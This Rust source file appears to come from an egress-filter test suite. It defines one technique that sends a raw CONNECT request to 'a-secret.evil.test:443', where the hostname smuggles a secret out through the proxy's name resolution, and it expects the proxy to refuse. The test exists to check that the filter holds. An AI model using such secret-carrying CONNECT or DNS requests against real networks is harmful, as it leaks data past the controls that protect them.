//! A name in a CONNECT.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "name-leaked-by-tunnel",
    family: Family::Dns,
    name: "A name in a CONNECT",
    tries: "Asks the proxy for a tunnel to a name that carries a secret and is not allowed.",
    danger: "The proxy resolves names itself: what the filter refuses would leave through it.",
    places: Places::Everywhere,
    steps: &[Step::Tcp(
        Proxy,
        &[Bytes(b"CONNECT a-secret.evil.test:443 HTTP/1.1\r\nHost: a-secret.evil.test:443\r\n\r\n")],
    )],
    expect: Expect { refusals: &[refusal("connect", "default", "no_rule_allows")], ..NOTHING },
    on_host: None,
};
